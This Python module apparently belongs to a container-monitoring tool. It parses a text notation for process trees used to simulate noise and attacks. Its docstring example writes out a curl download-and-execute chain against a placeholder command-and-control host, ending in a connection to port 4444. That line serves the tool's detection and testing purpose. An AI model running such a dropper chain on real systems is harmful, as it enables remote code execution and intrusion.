"""Process trees as text: how noise and attacks are written down.

A line is a command, two spaces of indent make it a child of the line above. Before the command stand marks, after ` -> ` what
the process connects to:

    sh -c "curl -s http://{c2}/a -o /tmp/{rand}; chmod +x /tmp/{rand}; /tmp/{rand}"
      curl -s http://{c2}/a -o /tmp/{rand} -> {c2}:80
      chmod +x /tmp/{rand}
      !/tmp/{rand} -> {c2}:4444

Marks: `!` written after the container's start, `~` no file behind it, `|` standard input is a socket, `^` has a terminal, `*N*`
happens N times. A line `@` is the container's main program itself, and `@name` another process of its that runs already.
`{name}` is filled in when the tree is played. What runs is the file that the image has for the first word.
"""

import re
import shlex
from collections.abc import Mapping
from dataclasses import dataclass, field
from functools import lru_cache

from peerwatch.columns import ProcessFlag

__all__ = ["SELF", "Node", "fill", "parse"]

SELF = "@"
_MARKS = {
    "!": 1 << ProcessFlag.UPPER_LAYER,
    "~": 1 << ProcessFlag.MEMFD,
    "|": 1 << ProcessFlag.STDIO_SOCKET,
    "^": 1 << ProcessFlag.TTY,
}
_TIMES = re.compile(r"\*(\d+)\*")
_PLACE = re.compile(r"\{(\w+)\}")


@dataclass(slots=True)
class Node:
    """One process: what it is called with, what it connects to and whom it starts."""

    argv: tuple[str, ...]
    flags: int = 0
    times: int = 1
    dials: tuple[str, ...] = ()
    children: list["Node"] = field(default_factory=list)


@lru_cache(maxsize=4096)
def parse(text: str) -> tuple[Node, ...]:
    """Return the trees that a script describes."""
    roots: list[Node] = []
    path: list[Node] = []
    for line in text.splitlines():
        if not line.strip():
            continue
        depth = (len(line) - len(line.lstrip())) // 2
        node = _node(line.strip())
        assert depth <= len(path), f"indented too far: {line!r}"
        del path[depth:]
        (path[-1].children if path else roots).append(node)
        path.append(node)
    return tuple(roots)


def _node(line: str) -> Node:
    command, _, dials = line.partition(" -> ")
    flags, times = 0, 1
    while True:
        many = _TIMES.match(command)
        if many:
            times, command = int(many[1]), command[many.end() :]
        elif command[0] in _MARKS:
            flags, command = flags | _MARKS[command[0]], command[1:]
        else:
            break
    return Node(tuple(shlex.split(command)), flags, times, tuple(dials.split()))


def fill(text: str, values: Mapping[str, str]) -> str:
    """Return the text with what is known filled in; other braces (awk has them, too) stay."""
    return _PLACE.sub(lambda match: values.get(match[1], match[0]), text) if "{" in text else text
